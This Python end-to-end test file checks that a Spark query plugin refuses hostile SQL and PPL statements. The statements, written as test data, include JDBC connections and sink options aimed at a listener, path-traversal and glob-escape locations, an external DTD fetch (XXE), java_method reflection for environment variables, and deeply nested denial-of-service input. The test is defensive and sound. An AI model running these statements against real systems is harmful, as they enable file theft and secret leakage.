"""Hostile statements through a real job (spark-submit), each with no effect.

The plugin refuses these at POST; here they are written straight into a live session's request
index, as another plugin (or anyone who can write there) could write them, so that what stands
between them and Spark is the job's own check on Spark's own parse. Each must fail with the
plugin's words and do nothing: no file outside the roots read, written or deleted, no connection
to the listening socket the JDBC statements name. The session lives on: its next statement runs.

The job's catalog is a real Hive Metastore, and what is planted in it through its Thrift API (a
table and a partition located outside every root, views over them and with a refused function)
is refused too, in SQL and PPL, with no row returned (docs/validation.md, "What the catalog holds").
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from async_query.api import create_app
from async_query.embedded.catalogs import catalog_settings
from async_query.embedded.metastore import Metastore
from async_query.runtime import Plugin
from query_core.ids import default_result_index, new_id, request_index
from query_core.models import StatementDoc, now_millis
from query_core.states import StatementState, is_terminal
from query_core.validation.allowlists import is_settable
from tests import planted
from tests.e2e.conftest import Api, e2e_service
from tests.support import Listener, serve_http, wait_for

pytestmark = pytest.mark.e2e


@pytest.fixture(scope="module")
def hostile_e2e(
    module_index_url: str, tmp_path_factory: pytest.TempPathFactory, metastore: Metastore
) -> Iterator[dict[str, Any]]:
    tmp = tmp_path_factory.mktemp("hostile-e2e")
    outside = tmp / "outside"
    (outside / "keep").mkdir(parents=True)
    (outside / "secret.txt").write_text("the secret of the outside")
    (outside / "keep" / "keep.txt").write_text("keep me")
    listener = Listener()
    plugin = e2e_service(module_index_url, tmp, "local", catalog_settings(metastore.home / "warehouse", metastore.uri))
    try:
        with serve_http(create_app(plugin)) as url:
            yield {
                "api": Api(url, "local"),
                "plugin": plugin,
                "outside": outside,
                "listener": listener,
                "metastore": metastore,
            }
    finally:
        plugin.close()
        listener.sock.close()


def _state(outside: Path) -> dict[str, str]:
    return {
        str(p.relative_to(outside)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in outside.rglob("*")
        if p.is_file()
    }


def _write_statement(plugin: Plugin, session_id: str, query: str, lang: str = "sql") -> str:
    """A waiting statement in the session, written as the reference plugin writes one: the
    document alone, found by the job's search."""
    query_id = new_id("local")
    doc = StatementDoc(
        statement_id=query_id,
        query_id=query_id,
        session_id=session_id,
        query=query,
        lang=lang,
        data_source_name="local",
        submit_time=now_millis(),
    )
    plugin.store.statements.create(doc)
    plugin.store.index.refresh(request_index("local"))
    return query_id


def test_hostile_statements_past_the_plugin_are_refused_by_the_job_and_do_nothing(
    hostile_e2e: dict[str, Any],
) -> None:
    api: Api = hostile_e2e["api"]
    plugin: Plugin = hostile_e2e["plugin"]
    outside: Path = hostile_e2e["outside"]
    listener: Listener = hostile_e2e["listener"]
    launcher = plugin.launchers.shared["local"]
    datasource = plugin.datasources.get("local")
    wh = launcher.warehouse_of(datasource).removeprefix("file://").removeprefix("file:")
    cp = launcher.checkpoints_of(datasource)
    port = listener.port
    climb = "../" * 40  # past the file system's root: Hadoop keeps the extra "..", the OS ignores them
    glob_climb = "\\\\../" * 40
    hive2 = f"url 'jdbc:hive2://127.0.0.1:{port}/default', dbtable 't', driver 'org.apache.hive.jdbc.HiveDriver'"

    submitted, first = api.run("SELECT 1 AS one")
    assert first["status"] == "SUCCESS", first
    session_id = submitted["sessionId"]
    _, parted = api.run("CREATE TABLE hostile_parted (line STRING, k INT) USING parquet PARTITIONED BY (k)", session_id)
    assert parted["status"] == "SUCCESS", parted
    with planted.metastore(hostile_e2e["metastore"].uri) as client:  # as anyone who reaches its port
        planted.text_table(client, "hostile_planted", outside.as_uri())
        planted.view(client, "hostile_planted_view", "SELECT line FROM default.hostile_planted", [("line", "string")])
        planted.view(
            client, "hostile_reflect_view", "SELECT java_method('java.lang.System', 'getenv') AS e", [("e", "string")]
        )
        planted.partition(client, "hostile_parted", ["9"], outside.as_uri())
    before = _state(outside)

    hostile = {
        f"CREATE TEMPORARY VIEW j USING jdbc OPTIONS ({hive2})": "Data source provider (jdbc) is not allowed.",
        f"CREATE TABLE jt USING org.apache.spark.sql.jdbc OPTIONS ({hive2})": "Data source provider",
        f"BEGIN CREATE TEMPORARY VIEW j USING jdbc OPTIONS ({hive2}); SELECT * FROM j; END": "Data source provider",
        f"CREATE TEMPORARY VIEW s USING text OPTIONS (PATH '{outside}/' 'secret.txt')": "LOCATION outside the warehouse",
        f"CREATE TABLE w USING parquet LOCATION '{wh}/x?/{climb}{outside.relative_to('/')}/w' AS SELECT 1 AS a": (
            "LOCATION outside the warehouse"
        ),
        f"CREATE TABLE w2 (a INT) USING parquet OPTIONS ('PATH' '{wh}/%2e%2e/' '{climb}{outside.relative_to('/')}/w2')": (
            "LOCATION outside the warehouse"
        ),
        # A glob Spark expands: SQL '\\..' is the value \.. there, which the glob reads as "..".
        f"CREATE TEMPORARY VIEW g USING text OPTIONS (path '{wh}/{glob_climb}{outside.relative_to('/')}/secret.txt')": (
            "LOCATION outside the warehouse"
        ),
        (
            "SELECT from_xml('<a><b>1</b></a>', 'b STRING', "
            f"map('rowValidationXSDPath', 'http://127.0.0.1:{port}/s.xsd'))"
        ): "Data source option (from_xml: rowValidationXSDPath) is not allowed.",
        "SET spark.sql.runSQLOnFiles=true": "SET/RESET of a protected key (spark.sql.runSQLOnFiles) is not allowed.",
        f"SELECT * FROM text.`{outside}/secret.txt`": "File is not allowed.",
        "SELECT " + "(" * 2_000 + "1" + ")" * 2_000: "The statement is nested too deeply",
        # Comments nested 2,000 deep: 8 KB that held a job's core for its whole prepare limit.
        "SELECT 1 " + "/*" * 2000 + " x " + "*/" * 2000: "The statement costs too much to read",
        "SELECT 1 " + "/*" * 200 + " x " + "*/" * 200: "The statement is nested too deeply",
        (
            "CREATE INDEX by_a ON default.t (a) WITH (auto_refresh = true, "
            f"checkpoint_location = '{cp}/x?/{climb}{outside.relative_to('/')}/keep', "
            f'extra_options = \'{{"sink": {{"host": "127.0.0.1", "port": "{port}"}}}}\')'
        ): "Flint index option (extra_options sink: host) is not allowed.",
    }
    outside_root = "LOCATION outside the warehouse"
    planted_statements = {
        ("sql", "SELECT * FROM hostile_planted"): outside_root,
        ("ppl", "source = local.default.hostile_planted"): outside_root,
        ("sql", "SELECT * FROM hostile_planted_view"): outside_root,
        ("sql", "SELECT * FROM hostile_reflect_view"): "Misc functions (java_method, in the stored view",
        ("sql", "SELECT line FROM hostile_parted WHERE k = 9"): outside_root,
        ("ppl", "source = local.default.hostile_parted | fields line"): outside_root,
        ("sql", "INSERT INTO hostile_planted VALUES ('written')"): outside_root,
    }
    ids = {_write_statement(plugin, session_id, query): expected for query, expected in hostile.items()}
    ids.update(
        {
            _write_statement(plugin, session_id, query, lang): expected
            for (lang, query), expected in planted_statements.items()
        }
    )

    def all_done() -> dict[str, StatementDoc] | None:
        found = {qid: plugin.store.statements.get("local", qid) for qid in ids}
        docs = {qid: v.doc for qid, v in found.items() if v is not None}
        return docs if len(docs) == len(ids) and all(is_terminal(d.state) for d in docs.values()) else None

    docs = wait_for(all_done, timeout=240, interval=0.2, what="the hostile statements to end")
    for qid, expected in ids.items():
        assert docs[qid].state is StatementState.FAILED, (docs[qid].query[:80], docs[qid].state)
        assert docs[qid].error.startswith(expected), (docs[qid].query[:80], docs[qid].error)

    # The second wall: an XML parser in the job fetches no external DTD (the statement is allowed,
    # and fails when it runs), so the listener sees no connection.
    xpath = f"SELECT xpath_string('<!DOCTYPE a SYSTEM \"http://127.0.0.1:{port}/d.dtd\"><a>&x;</a>', '/a')"
    _, fetched = api.run(xpath, session_id)
    assert fetched["status"] == "FAILED", fetched

    # The session lives on, and a listing of its settings names none of the job's addresses.
    _, after = api.run("SELECT 2 AS two", session_id)
    assert after["status"] == "SUCCESS" and after["datarows"] == [[2]]
    _, listing = api.run("SET", session_id)
    assert listing["status"] == "SUCCESS"
    shown = json.dumps(listing["datarows"])
    assert listing["datarows"] and all(is_settable(key) for key, _ in listing["datarows"])
    for internal in ("spark.datasource.flint", "spark.sql.warehouse.dir", "spark.flint.validation", str(cp), wh):
        assert internal not in shown

    assert _state(outside) == before
    assert listener.connections == 0
    results = [plugin.store.results.get(default_result_index("local"), qid) for qid in ids]
    assert all("the secret of the outside" not in json.dumps(r.model_dump() if r else {}) for r in results)
